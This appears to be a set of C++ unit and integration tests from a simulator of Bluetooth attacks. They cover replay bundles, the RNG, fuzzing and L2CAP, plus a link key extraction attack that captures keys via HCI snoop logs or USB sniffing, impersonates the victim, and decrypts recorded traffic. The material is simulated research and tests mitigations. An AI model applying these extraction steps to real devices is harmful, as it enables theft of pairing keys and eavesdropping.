  const ScenarioParams params = abc_params();
  campaign::CampaignConfig cfg;
  cfg.label = "fork equivalence";
  cfg.trials = 8;
  cfg.root_seed = 4242;

  const auto rebuild = campaign::run_campaign(cfg, [&](const campaign::TrialSpec& spec) {
    Scenario s = build_scenario(spec.seed, params);
    return baseline_body(spec, s);
  });
  ForkStats stats;
  const auto fork = run_fork_campaign(cfg, params, baseline_body, nullptr, &stats);
  EXPECT_TRUE(stats.fork_used) << stats.fallback_reason;
  EXPECT_EQ(rebuild.to_json(true), fork.to_json(true));
}

TEST(ForkCampaign, WarmSetupSharesAnExpensivePrefix) {
  // Warm-up: bond C to M. The per-trial body then reuses the bond. The fork
  // path must match the rebuild path (build + warm-up + reseed) exactly.
  const ScenarioParams params = extraction_params();
  const WarmSetupFn warm = [](Scenario& s) {
    s.accessory->host().pair(s.target->address(), [](hci::Status) {});
    s.sim->run_for(30 * kSecond);
    s.sim->run_until_idle();
  };
  const ForkTrialFn body = [](const campaign::TrialSpec&, Scenario& s) {
    bool validated = false;
    s.accessory->host().connect_pan(s.target->address(),
                                    [&validated](bool ok) { validated = ok; });
    s.sim->run_for(5 * kSecond);
    campaign::TrialResult r;
    r.success = validated;
    r.virtual_end = s.sim->now();
    return r;
  };

  campaign::CampaignConfig cfg;
  cfg.label = "warm fork equivalence";
  cfg.trials = 6;
  cfg.root_seed = 999;

  const auto rebuild = campaign::run_campaign(cfg, [&](const campaign::TrialSpec& spec) {
    Scenario s = build_scenario(cfg.root_seed, params);
    warm(s);
    s.sim->reseed(spec.seed);
    return body(spec, s);
  });
  ForkStats stats;
  const auto fork = run_fork_campaign(cfg, params, body, nullptr, &stats, warm);
  EXPECT_TRUE(stats.fork_used) << stats.fallback_reason;
  EXPECT_EQ(rebuild.to_json(true), fork.to_json(true));
  EXPECT_EQ(fork.success_rate, 1.0);  // the bond validates every trial
}

TEST(ForkCampaign, FallsBackWhenWarmPointIsNotQuiescent) {
  // A warm-up that leaves an event in flight makes the strict capture
  // impossible; the runner must fall back to per-trial rebuilds and still
  // produce the same aggregates as the manual rebuild path.
  const ScenarioParams params = abc_params();
  const WarmSetupFn bad_warm = [](Scenario& s) {
    s.sim->scheduler().schedule_in(kSecond, [] {});
  };
  const ForkTrialFn body = [](const campaign::TrialSpec&, Scenario& s) {
    s.sim->run_for(2 * kSecond);
    campaign::TrialResult r;
    r.success = true;
    r.virtual_end = s.sim->now();
    return r;
  };

  campaign::CampaignConfig cfg;
  cfg.label = "fallback";
  cfg.trials = 4;
  cfg.root_seed = 77;

  ForkStats stats;
  const auto fork = run_fork_campaign(cfg, params, body, nullptr, &stats, bad_warm);
  EXPECT_FALSE(stats.fork_used);
  EXPECT_FALSE(stats.fallback_reason.empty());

  const auto rebuild = campaign::run_campaign(cfg, [&](const campaign::TrialSpec& spec) {
    Scenario s = build_scenario(cfg.root_seed, params);
    bad_warm(s);
    s.sim->reseed(spec.seed);
    return body(spec, s);
  });
  EXPECT_EQ(rebuild.to_json(true), fork.to_json(true));
}

TEST(ForkCampaign, RecordsFailureBundlesThatReplay) {
  const ScenarioParams params = abc_params();
  campaign::CampaignConfig cfg;
  cfg.label = "record";
  cfg.trials = 20;
  cfg.root_seed = 31337;

  const auto dir =
      (std::filesystem::temp_directory_path() / "blap_test_record").string();
  std::filesystem::remove_all(dir);
  RecordOptions rec;
  rec.dir = dir;
  rec.trial_kind = "page_blocking_baseline";
  rec.limit = 2;
  ForkStats stats;
  const auto summary = run_fork_campaign(cfg, params, baseline_body, &rec, &stats);
  ASSERT_TRUE(stats.fork_used) << stats.fallback_reason;
  ASSERT_FALSE(stats.bundle_paths.empty());  // baselines do fail sometimes
  EXPECT_LE(stats.bundle_paths.size(), rec.limit);
  EXPECT_LT(summary.success_rate, 1.0);

  for (const std::string& path : stats.bundle_paths) {
    std::string why;
    const auto bundle = ReplayBundle::load_file(path, &why);
    ASSERT_TRUE(bundle.has_value()) << path << ": " << why;
    const ReplayOutcome outcome = replay_bundle(*bundle, /*want_trace=*/false);
    EXPECT_TRUE(outcome.executed) << outcome.error;
    EXPECT_TRUE(outcome.reproduced()) << path;
    EXPECT_TRUE(outcome.snapshot_matches) << path;
    EXPECT_FALSE(bundle->expected_success);  // default predicate records failures
  }
  std::filesystem::remove_all(dir);
}

}  // namespace
}  // namespace blap::snapshot
