// Unit tests for the deterministic RNG driving all simulation randomness.
#include <gtest/gtest.h>

#include <set>

#include "common/rng.hpp"

namespace blap {
namespace {

TEST(Rng, SameSeedSameStream) {
  Rng a(42), b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next_u64(), b.next_u64());
}

TEST(Rng, DifferentSeedsDiverge) {
  Rng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i)
    if (a.next_u64() == b.next_u64()) ++same;
  EXPECT_LT(same, 2);
}

TEST(Rng, ZeroSeedIsValid) {
  Rng r(0);
  std::set<std::uint64_t> seen;
  for (int i = 0; i < 32; ++i) seen.insert(r.next_u64());
  EXPECT_GT(seen.size(), 30u);  // not stuck at a fixed point
}

TEST(Rng, UniformRespectsBound) {
  Rng r(7);
  for (int i = 0; i < 1000; ++i) EXPECT_LT(r.uniform(10), 10u);
}

TEST(Rng, UniformCoversAllResidues) {
  Rng r(7);
  std::set<std::uint64_t> seen;
  for (int i = 0; i < 1000; ++i) seen.insert(r.uniform(10));
  EXPECT_EQ(seen.size(), 10u);
}

TEST(Rng, UniformRangeInclusive) {
  Rng r(3);
  bool saw_lo = false, saw_hi = false;
  for (int i = 0; i < 2000; ++i) {
    const auto v = r.uniform_range(-5, 5);
    EXPECT_GE(v, -5);
    EXPECT_LE(v, 5);
    saw_lo |= (v == -5);
    saw_hi |= (v == 5);
  }
  EXPECT_TRUE(saw_lo);
  EXPECT_TRUE(saw_hi);
}

TEST(Rng, Uniform01InHalfOpenInterval) {
  Rng r(11);
  double sum = 0;
  for (int i = 0; i < 10000; ++i) {
    const double v = r.uniform01();
    ASSERT_GE(v, 0.0);
    ASSERT_LT(v, 1.0);
    sum += v;
  }
  EXPECT_NEAR(sum / 10000, 0.5, 0.02);
}

TEST(Rng, ChanceApproximatesProbability) {
  Rng r(13);
  int hits = 0;
  for (int i = 0; i < 10000; ++i)
    if (r.chance(0.3)) ++hits;
  EXPECT_NEAR(hits / 10000.0, 0.3, 0.02);
}

TEST(Rng, BytesAreDeterministicAndVaried) {
  Rng a(99), b(99);
  const auto x = a.bytes<16>();
  const auto y = b.bytes<16>();
  EXPECT_EQ(x, y);
  // Next draw differs from first (stream advances).
  EXPECT_NE(a.bytes<16>(), x);
}

TEST(Rng, BufferLengthsExact) {
  Rng r(5);
  EXPECT_EQ(r.buffer(0).size(), 0u);
  EXPECT_EQ(r.buffer(7).size(), 7u);
  EXPECT_EQ(r.buffer(64).size(), 64u);
}

TEST(Rng, ForkIsIndependentOfParentFutureDraws) {
  Rng parent1(77);
  Rng child1 = parent1.fork();
  const auto childdraw1 = child1.next_u64();

  Rng parent2(77);
  Rng child2 = parent2.fork();
  // Parent 2 keeps drawing; child streams must match regardless.
  (void)parent2.next_u64();
  EXPECT_EQ(child2.next_u64(), childdraw1);
}

}  // namespace
}  // namespace blap
