// Typed-error coverage for replay bundle loading (tests/malformed_bundles/).
//
// A bundle that cannot be parsed must come back as a BundleError carrying
// the file, the 1-based line and the byte offset of that line — never an
// abort mid-parse, never a silent half-understood bundle. Each fixture is
// deliberately broken in exactly one way; the tests pin the error location
// so a parser refactor that loses precision fails here.
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>
#include <string>

#include "snapshot/replay.hpp"

namespace blap::snapshot {
namespace {

std::string fixture_path(const char* name) {
  return std::string(BLAP_MALFORMED_BUNDLE_DIR) + "/" + name;
}

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

/// Byte offset where 1-based `line` starts in `text`.
std::size_t line_offset(const std::string& text, std::size_t line) {
  std::size_t offset = 0;
  for (std::size_t i = 1; i < line; ++i) offset = text.find('\n', offset) + 1;
  return offset;
}

TEST(ReplayErrors, TruncatedBase64ReportsSnapshotBlock) {
  const std::string path = fixture_path("truncated-base64.blapreplay");
  BundleError error;
  EXPECT_FALSE(ReplayBundle::load_file(path, error).has_value());
  EXPECT_EQ(error.file, path);
  // The payload (not the 'snapshot:' marker) is the reported location.
  EXPECT_EQ(error.line, 11u);
  EXPECT_EQ(error.offset, line_offset(slurp(path), 11));
  EXPECT_NE(error.message.find("not valid base64"), std::string::npos) << error.message;
}

TEST(ReplayErrors, CorruptBase64ReportsSnapshotBlock) {
  const std::string path = fixture_path("corrupt-base64.blapreplay");
  BundleError error;
  EXPECT_FALSE(ReplayBundle::load_file(path, error).has_value());
  EXPECT_EQ(error.line, 11u);
  EXPECT_EQ(error.offset, line_offset(slurp(path), 11));
  EXPECT_NE(error.message.find("not valid base64"), std::string::npos) << error.message;
}

TEST(ReplayErrors, OverlongFieldIsRefusedAtItsLine) {
  const std::string path = fixture_path("overlong-field.blapreplay");
  BundleError error;
  EXPECT_FALSE(ReplayBundle::load_file(path, error).has_value());
  EXPECT_EQ(error.line, 6u);  // the 5000-byte trial_kind line
  EXPECT_EQ(error.offset, line_offset(slurp(path), 6));
  EXPECT_NE(error.message.find("limit " + std::to_string(ReplayBundle::kMaxFieldLength)),
            std::string::npos)
      << error.message;
}

TEST(ReplayErrors, UnknownKeyIsRefused) {
  const std::string path = fixture_path("unknown-key.blapreplay");
  BundleError error;
  EXPECT_FALSE(ReplayBundle::load_file(path, error).has_value());
  EXPECT_EQ(error.line, 7u);  // the 'verdict:' line
  EXPECT_NE(error.message.find("unknown key 'verdict'"), std::string::npos) << error.message;
}

TEST(ReplayErrors, MissingFieldsAreListedByName) {
  const std::string path = fixture_path("missing-field.blapreplay");
  BundleError error;
  EXPECT_FALSE(ReplayBundle::load_file(path, error).has_value());
  EXPECT_NE(error.message.find("missing required field(s)"), std::string::npos)
      << error.message;
  EXPECT_NE(error.message.find("trial_seed"), std::string::npos);
  EXPECT_NE(error.message.find("trial_kind"), std::string::npos);
  EXPECT_NE(error.message.find("success"), std::string::npos);
}

TEST(ReplayErrors, MissingFileHasTypedError) {
  const std::string path = fixture_path("does-not-exist.blapreplay");
  BundleError error;
  EXPECT_FALSE(ReplayBundle::load_file(path, error).has_value());
  EXPECT_EQ(error.file, path);
  EXPECT_EQ(error.message, "cannot open file");
}

TEST(ReplayErrors, ToStringCarriesFileLineAndOffset) {
  BundleError error;
  error.file = "bundle.blapreplay";
  error.line = 11;
  error.offset = 230;
  error.message = "snapshot payload is not valid base64 (truncated or corrupt)";
  EXPECT_EQ(error.to_string(),
            "bundle.blapreplay:11 (offset 230): snapshot payload is not valid base64 "
            "(truncated or corrupt)");
}

TEST(ReplayErrors, LegacyStringOverloadWrapsTypedError) {
  std::string why;
  EXPECT_FALSE(ReplayBundle::from_text("not a bundle", &why).has_value());
  EXPECT_NE(why.find("missing bundle header line"), std::string::npos) << why;
}

TEST(ReplayErrors, OversizedSnapshotPayloadIsRefused) {
  // Build a text whose snapshot block exceeds the base64 ceiling without
  // materializing a >64 MiB fixture on disk.
  std::string text =
      "blap-replay-bundle v1\n"
      "scenario: kind=abc table=2 profile=5 transport=uart dump=1 bias=0x1p-1\n"
      "trial_seed: 1\n"
      "trial_kind: page_blocking_baseline\n"
      "success: 1\n"
      "snapshot:\n";
  const std::string chunk(76, 'A');
  const std::size_t lines = ReplayBundle::kMaxSnapshotBase64 / chunk.size() + 2;
  text.reserve(text.size() + lines * (chunk.size() + 1));
  for (std::size_t i = 0; i < lines; ++i) {
    text += chunk;
    text += '\n';
  }
  BundleError error;
  EXPECT_FALSE(ReplayBundle::from_text(text, error).has_value());
  EXPECT_NE(error.message.find("exceeds"), std::string::npos) << error.message;
}

}  // namespace
}  // namespace blap::snapshot
