// Integration tests for the link key extraction attack (paper §IV, Fig. 5).
#include <gtest/gtest.h>

#include "core/link_key_extraction.hpp"
#include "core/mitigations.hpp"
#include "core/profiles.hpp"

namespace blap::core {
namespace {

struct Scenario {
  std::unique_ptr<Simulation> sim;
  Device* attacker = nullptr;
  Device* accessory = nullptr;
  Device* target = nullptr;
};

Scenario make_scenario(std::uint64_t seed, TransportKind accessory_transport,
                       std::optional<bool> accessory_has_dump = std::nullopt) {
  Scenario s;
  s.sim = std::make_unique<Simulation>(seed);

  DeviceSpec a = attacker_profile().to_spec("attacker-A", *BdAddr::parse("aa:aa:aa:00:00:01"));
  DeviceSpec c = accessory_profile().to_spec("carkit-C", *BdAddr::parse("00:1b:7d:da:71:0a"),
                                             ClassOfDevice(ClassOfDevice::kHandsFree));
  c.transport = accessory_transport;
  // Default: phones (UART) expose a snoop log; PC dongles (USB) do not —
  // but a profile (e.g. Ubuntu/BlueZ with hcidump) may override.
  c.host.hci_dump_available =
      accessory_has_dump.value_or(accessory_transport == TransportKind::kUart);
  DeviceSpec m = table2_profiles()[5].to_spec("velvet-M", *BdAddr::parse("48:90:12:34:56:78"));

  s.attacker = &s.sim->add_device(a);
  s.accessory = &s.sim->add_device(c);
  s.target = &s.sim->add_device(m);
  return s;
}

TEST(LinkKeyExtraction, HciDumpPathExtractsCorrectKey) {
  Scenario s = make_scenario(2022, TransportKind::kUart);
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_TRUE(report.bonded_precondition);
  EXPECT_TRUE(report.key_extracted);
  EXPECT_TRUE(report.key_matches_bond);
  EXPECT_EQ(report.capture_channel, "HCI dump");
}

TEST(LinkKeyExtraction, StallLeavesNoAuthenticationFailure) {
  Scenario s = make_scenario(2023, TransportKind::kUart);
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  // The drop must come from a timeout, never a cryptographic failure...
  EXPECT_NE(report.c_auth_status, hci::Status::kAuthenticationFailure);
  EXPECT_NE(report.c_auth_status, hci::Status::kPinOrKeyMissing);
  // ...so C's bond with M survives the attack (paper §IV-C step 5).
  EXPECT_TRUE(report.c_bond_survived);
}

TEST(LinkKeyExtraction, ImpersonationValidatesKeyOverPan) {
  Scenario s = make_scenario(2024, TransportKind::kUart);
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_TRUE(report.impersonation_attempted);
  EXPECT_TRUE(report.impersonation_succeeded);
  EXPECT_FALSE(report.impersonation_repaired);  // no fresh pairing occurred
}

TEST(LinkKeyExtraction, UsbSniffPathExtractsSameKey) {
  Scenario s = make_scenario(2025, TransportKind::kUsb);
  LinkKeyExtractionOptions options;
  options.use_usb_sniff = true;
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, options);
  EXPECT_TRUE(report.key_extracted);
  EXPECT_TRUE(report.key_matches_bond);
  EXPECT_TRUE(report.impersonation_succeeded);
  EXPECT_EQ(report.capture_channel, "USB sniff");
}

TEST(LinkKeyExtraction, WrongKeyAblationPurgesVictimBond) {
  // DESIGN.md ablation 3: answering the challenge with a wrong key triggers
  // an authentication failure, and C deletes the bond — the reason the real
  // attack stalls instead of answering.
  Scenario s = make_scenario(2026, TransportKind::kUart);
  LinkKeyExtractionOptions options;
  options.answer_with_wrong_key = true;
  options.validate_by_impersonation = false;
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, options);
  EXPECT_EQ(report.c_auth_status, hci::Status::kAuthenticationFailure);
  EXPECT_FALSE(report.c_bond_survived);
  // The key still appeared in the dump — but its validity window is gone.
  EXPECT_TRUE(report.key_extracted);
}

TEST(LinkKeyExtraction, SnoopHeaderFilterDefeatsExtraction) {
  Scenario s = make_scenario(2027, TransportKind::kUart);
  apply_snoop_filter(*s.accessory, SnoopFilterMode::kHeaderOnly);
  LinkKeyExtractionOptions options;
  options.validate_by_impersonation = false;
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, options);
  EXPECT_FALSE(report.key_extracted);
}

TEST(LinkKeyExtraction, SnoopRandomizeFilterDefeatsExtraction) {
  Scenario s = make_scenario(2028, TransportKind::kUart);
  apply_snoop_filter(*s.accessory, SnoopFilterMode::kRandomizeKey);
  LinkKeyExtractionOptions options;
  options.validate_by_impersonation = false;
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, options);
  // A "key" is present in the dump but it is random — it matches nothing.
  EXPECT_FALSE(report.key_extracted && report.key_matches_bond);
}

TEST(LinkKeyExtraction, PayloadEncryptionDefeatsUsbSniff) {
  // §VII-A2: hardware sniffing sees ciphertext once the HCI payload of
  // key-bearing packets is encrypted — the defense that survives physical
  // taps, unlike the dump filter.
  Scenario s = make_scenario(2029, TransportKind::kUsb);
  apply_hci_payload_encryption(*s.accessory);
  LinkKeyExtractionOptions options;
  options.use_usb_sniff = true;
  options.validate_by_impersonation = false;
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, options);
  // The 0b-04-16 pattern still matches (header is cleartext) but the key
  // bytes are ciphertext and do not match the bond.
  EXPECT_FALSE(report.key_extracted && report.key_matches_bond);
}

// Table I sweep: every profile row is vulnerable through its capture channel.
class Table1Sweep : public ::testing::TestWithParam<std::size_t> {};

TEST_P(Table1Sweep, ProfileIsVulnerable) {
  const DeviceProfile& profile = table1_profiles()[GetParam()];
  Scenario s = make_scenario(3000 + GetParam(), profile.transport, profile.hci_dump_available);
  LinkKeyExtractionOptions options;
  options.use_usb_sniff = !profile.hci_dump_available;
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, options);
  EXPECT_TRUE(report.key_extracted) << profile.model << " / " << profile.os;
  EXPECT_TRUE(report.key_matches_bond) << profile.model << " / " << profile.os;
}

INSTANTIATE_TEST_SUITE_P(AllRows, Table1Sweep, ::testing::Range<std::size_t>(0, 9));

}  // namespace
}  // namespace blap::core

// NOTE: appended — ties the extraction attack to the air-sniffer capability.
#include "core/air_analysis.hpp"

namespace blap::core {
namespace {

TEST(LinkKeyExtraction, ExtractedKeyDecryptsPastRecordedSession) {
  // Paper §IV-C: "A would be able to decrypt not only the future, but also
  // the past communications of M captured by air-sniffers using the key."
  // Here the sniffer records the ENTIRE scenario — including the encrypted
  // C<->M session before the attack — and the extracted key unlocks it.
  Scenario s = make_scenario(4040, TransportKind::kUart);
  AirSniffer sniffer(s.sim->medium());

  // Phase 1 (recorded): C and M bond and exchange encrypted data.
  s.attacker->set_radio_enabled(false);
  bool paired = false;
  s.accessory->host().pair(s.target->address(), [&](hci::Status st) {
    paired = st == hci::Status::kSuccess;
  });
  for (int i = 0; i < 200 && !paired; ++i) s.sim->run_for(100 * kMillisecond);
  ASSERT_TRUE(paired);
  bool echoed = false;
  s.accessory->host().send_echo(s.target->address(), [&] { echoed = true; });
  s.sim->run_for(kSecond);
  ASSERT_TRUE(echoed);
  const auto past_frames = sniffer.frames();  // the attacker's recording
  s.accessory->host().disconnect(s.target->address());
  s.sim->run_for(kSecond);

  // Phase 2: run the extraction attack (no impersonation needed here).
  s.attacker->set_radio_enabled(true);
  LinkKeyExtractionOptions options;
  options.validate_by_impersonation = false;
  const auto report =
      LinkKeyExtractionAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, options);
  // C and M were already bonded, so run()'s precondition reconnect reused
  // the phase-1 key — the extracted key IS the key that protected phase 1.
  ASSERT_TRUE(report.key_extracted);
  ASSERT_TRUE(report.key_matches_bond);

  // Phase 3: retroactively decrypt the phase-1 recording.
  const auto decrypted = decrypt_captured_traffic(past_frames, report.extracted_key);
  ASSERT_TRUE(decrypted.has_value());
  ASSERT_FALSE(decrypted->empty());
  bool found_ping = false;
  for (const auto& payload : *decrypted) {
    const std::string text(payload.plaintext.begin(), payload.plaintext.end());
    if (text.find("ping") != std::string::npos) found_ping = true;
  }
  EXPECT_TRUE(found_ping);
}

}  // namespace
}  // namespace blap::core
