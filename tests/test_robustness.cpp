// Robustness fuzzing: malformed air frames, HCI packets and ACL payloads
// must never crash a stack or corrupt its state — an attacker-adjacent
// device can inject arbitrary bytes at every one of these boundaries.
#include <gtest/gtest.h>

#include "core/device.hpp"
#include "core/snoop_extractor.hpp"
#include "core/usb_extractor.hpp"
#include "hci/snoop.hpp"

namespace blap::core {
namespace {

DeviceSpec spec(const std::string& name, const std::string& addr) {
  DeviceSpec s;
  s.name = name;
  s.address = *BdAddr::parse(addr);
  return s;
}

class RobustnessFuzz : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(RobustnessFuzz, RandomAirFramesDoNotCrashConnectedStacks) {
  Simulation sim(GetParam());
  Rng fuzz(GetParam() ^ 0xFBAD);
  Device& a = sim.add_device(spec("a", "00:00:00:00:00:01"));
  Device& b = sim.add_device(spec("b", "00:00:00:00:00:02"));

  bool connected = false;
  a.host().connect_only(b.address(), [&](hci::Status s) {
    connected = s == hci::Status::kSuccess;
  });
  sim.run_for(5 * kSecond);
  ASSERT_TRUE(connected);

  // Inject garbage frames on the live link from both sides, looked up by
  // address pair rather than assuming anything about link-id assignment.
  const auto link = sim.medium().link_between(a.address(), b.address());
  ASSERT_TRUE(link.has_value());
  for (int i = 0; i < 50; ++i) {
    Bytes garbage = fuzz.buffer(fuzz.uniform(40));
    sim.medium().send_frame(*link, &a.controller(), garbage);
    sim.medium().send_frame(*link, &b.controller(), fuzz.buffer(1 + fuzz.uniform(3)));
    sim.run_for(10 * kMillisecond);
  }
  sim.run_for(kSecond);

  // The stacks survive, and the link still carries real traffic.
  if (a.host().has_acl(b.address())) {
    bool echoed = false;
    a.host().send_echo(b.address(), [&] { echoed = true; });
    sim.run_for(kSecond);
    EXPECT_TRUE(echoed);
  }
}

TEST_P(RobustnessFuzz, RandomHciPacketsDoNotCrashController) {
  Simulation sim(GetParam() + 500);
  Rng fuzz(GetParam() ^ 0xC0DE);
  Device& d = sim.add_device(spec("d", "00:00:00:00:00:01"));

  for (int i = 0; i < 80; ++i) {
    hci::HciPacket packet;
    packet.type = static_cast<hci::PacketType>(1 + fuzz.uniform(4));
    packet.payload = fuzz.buffer(fuzz.uniform(32));
    d.transport().send(hci::Direction::kHostToController, packet);
    sim.run_for(5 * kMillisecond);
  }
  sim.run_for(kSecond);

  // The controller still answers well-formed commands.
  bool responsive = false;
  Device& peer = sim.add_device(spec("peer", "00:00:00:00:00:02"));
  d.host().connect_only(peer.address(), [&](hci::Status s) {
    responsive = s == hci::Status::kSuccess;
  });
  sim.run_for(5 * kSecond);
  EXPECT_TRUE(responsive);
}

TEST_P(RobustnessFuzz, RandomEventsDoNotCrashHost) {
  Simulation sim(GetParam() + 900);
  Rng fuzz(GetParam() ^ 0xFACE);
  Device& d = sim.add_device(spec("d", "00:00:00:00:00:01"));

  for (int i = 0; i < 80; ++i) {
    // Well-framed events with random codes and bodies.
    const std::uint8_t code = static_cast<std::uint8_t>(1 + fuzz.uniform(0x60));
    d.transport().send(hci::Direction::kControllerToHost,
                       hci::make_event(code, fuzz.buffer(fuzz.uniform(24))));
    sim.run_for(5 * kMillisecond);
  }
  sim.run_for(kSecond);
  SUCCEED();  // reaching here without UB/crash is the property
}

TEST_P(RobustnessFuzz, SnoopParserSurvivesRandomBytes) {
  Rng fuzz(GetParam() ^ 0xB17E);
  // Pure garbage.
  (void)hci::SnoopLog::parse(fuzz.buffer(fuzz.uniform(512)));
  // Valid header + garbage records.
  Bytes data = {'b', 't', 's', 'n', 'o', 'o', 'p', '\0', 0, 0, 0, 1, 0, 0, 0x03, 0xEA};
  const Bytes junk = fuzz.buffer(200);
  data.insert(data.end(), junk.begin(), junk.end());
  auto parsed = hci::SnoopLog::parse(data);
  EXPECT_TRUE(parsed.has_value());  // header was valid; body best-effort
  // Whatever parsed must re-serialize without crashing.
  if (parsed) (void)parsed->serialize();
}

TEST_P(RobustnessFuzz, UsbExtractorSurvivesRandomStreams) {
  Rng fuzz(GetParam() ^ 0x5EED);
  const Bytes stream = fuzz.buffer(2048);
  const auto keys = extract_link_keys_from_usb(stream);
  // A random stream may coincidentally contain the 3-byte pattern, but any
  // "key" it yields must decode from in-bounds data without crashing.
  for (const auto& key : keys) EXPECT_LT(key.frame_index, stream.size());
}

INSTANTIATE_TEST_SUITE_P(Seeds, RobustnessFuzz, ::testing::Range<std::uint64_t>(1, 11));

}  // namespace
}  // namespace blap::core
