// Unit tests for the L2CAP layer: channels, the auth gate, echo, cleanup.
#include <gtest/gtest.h>

#include "host/l2cap.hpp"

namespace blap::host {
namespace {

/// Wire two L2cap instances back to back through in-memory "ACL links".
struct Pair {
  std::unique_ptr<L2cap> left;
  std::unique_ptr<L2cap> right;
  std::vector<std::pair<bool, Bytes>> in_flight;  // (to_right, payload)

  Pair() {
    left = std::make_unique<L2cap>([this](hci::ConnectionHandle, BytesView p) {
      in_flight.emplace_back(true, to_bytes(p));
    });
    right = std::make_unique<L2cap>([this](hci::ConnectionHandle, BytesView p) {
      in_flight.emplace_back(false, to_bytes(p));
    });
  }

  void pump(hci::ConnectionHandle handle = 1) {
    while (!in_flight.empty()) {
      auto [to_right, payload] = in_flight.front();
      in_flight.erase(in_flight.begin());
      (to_right ? right : left)->on_acl_data(handle, payload);
    }
  }
};

TEST(L2cap, ConnectToRegisteredPsm) {
  Pair p;
  std::vector<Bytes> server_data;
  L2cap::Service service;
  service.on_data = [&](const L2capChannel&, BytesView data) {
    server_data.push_back(to_bytes(data));
  };
  p.right->register_service(0x1001, std::move(service));

  std::optional<L2capChannel> channel;
  p.left->connect_channel(1, 0x1001, [&](std::optional<L2capChannel> ch) { channel = ch; });
  p.pump();
  ASSERT_TRUE(channel.has_value());
  EXPECT_EQ(channel->psm, 0x1001);
  EXPECT_NE(channel->remote_cid, 0);

  p.left->send(*channel, Bytes{0xAA, 0xBB});
  p.pump();
  ASSERT_EQ(server_data.size(), 1u);
  EXPECT_EQ(server_data[0], (Bytes{0xAA, 0xBB}));
}

TEST(L2cap, ConnectToUnknownPsmFails) {
  Pair p;
  bool called = false;
  std::optional<L2capChannel> channel;
  p.left->connect_channel(1, 0x9999, [&](std::optional<L2capChannel> ch) {
    channel = ch;
    called = true;
  });
  p.pump();
  EXPECT_TRUE(called);
  EXPECT_FALSE(channel.has_value());
}

TEST(L2cap, AuthGateBlocksUnauthenticatedPeers) {
  Pair p;
  L2cap::Service service;
  service.requires_authentication = true;
  service.on_data = [](const L2capChannel&, BytesView) {};
  p.right->register_service(0x000F, std::move(service));
  // No auth oracle installed: default deny.

  std::optional<L2capChannel> channel = L2capChannel{};
  p.left->connect_channel(1, 0x000F, [&](std::optional<L2capChannel> ch) { channel = ch; });
  p.pump();
  EXPECT_FALSE(channel.has_value());

  // Now grant authentication and retry.
  p.right->set_auth_oracle([](hci::ConnectionHandle) { return true; });
  p.left->connect_channel(1, 0x000F, [&](std::optional<L2capChannel> ch) { channel = ch; });
  p.pump();
  EXPECT_TRUE(channel.has_value());
}

TEST(L2cap, OnOpenFiresForInboundChannels) {
  Pair p;
  int opened = 0;
  L2cap::Service service;
  service.on_open = [&](const L2capChannel&) { ++opened; };
  p.right->register_service(0x1001, std::move(service));
  p.left->connect_channel(1, 0x1001, nullptr);
  p.pump();
  EXPECT_EQ(opened, 1);
}

TEST(L2cap, EchoRoundTrip) {
  Pair p;
  bool echoed = false;
  p.left->echo(1, Bytes{'h', 'i'}, [&] { echoed = true; });
  p.pump();
  EXPECT_TRUE(echoed);
}

TEST(L2cap, EchoWorksWithoutAnyService) {
  // Echo is signaling-level: it needs no PSM — that is what makes it good
  // PLOC keep-alive dummy data.
  Pair p;
  bool echoed = false;
  p.left->echo(1, Bytes{}, [&] { echoed = true; });
  p.pump();
  EXPECT_TRUE(echoed);
}

TEST(L2cap, ChannelCountTracksLifecycle) {
  Pair p;
  L2cap::Service service;
  service.on_data = [](const L2capChannel&, BytesView) {};
  p.right->register_service(0x1001, std::move(service));
  EXPECT_EQ(p.left->channel_count(1), 0u);
  p.left->connect_channel(1, 0x1001, nullptr);
  p.pump();
  EXPECT_EQ(p.left->channel_count(1), 1u);
  EXPECT_EQ(p.right->channel_count(1), 1u);
  p.left->on_disconnected(1);
  EXPECT_EQ(p.left->channel_count(1), 0u);
}

TEST(L2cap, DisconnectedCleansPendingCallbacks) {
  Pair p;
  // Connect request whose response never arrives.
  bool called = false;
  p.left->connect_channel(1, 0x1001, [&](std::optional<L2capChannel>) { called = true; });
  p.left->on_disconnected(1);
  p.pump();  // the response (PSM not supported) arrives for a dead link
  EXPECT_FALSE(called);  // no dangling callback fired
}

TEST(L2cap, MalformedSignalingIsIgnored) {
  Pair p;
  // Truncated signaling command must not crash or respond.
  p.right->on_acl_data(1, Bytes{0x01, 0x00, 0x02});  // CID 1, half a header
  p.right->on_acl_data(1, Bytes{0x01});              // CID only... truncated
  p.right->on_acl_data(1, Bytes{});                  // empty
  EXPECT_TRUE(p.in_flight.empty());
}

TEST(L2cap, DataOnUnknownCidIgnored) {
  Pair p;
  int delivered = 0;
  L2cap::Service service;
  service.on_data = [&](const L2capChannel&, BytesView) { ++delivered; };
  p.right->register_service(0x1001, std::move(service));
  p.right->on_acl_data(1, Bytes{0x40, 0x00, 0xAA});  // CID 0x0040 never opened
  EXPECT_EQ(delivered, 0);
}

TEST(L2cap, MultipleChannelsSamePsm) {
  Pair p;
  L2cap::Service service;
  service.on_data = [](const L2capChannel&, BytesView) {};
  p.right->register_service(0x1001, std::move(service));
  std::optional<L2capChannel> ch1, ch2;
  p.left->connect_channel(1, 0x1001, [&](std::optional<L2capChannel> ch) { ch1 = ch; });
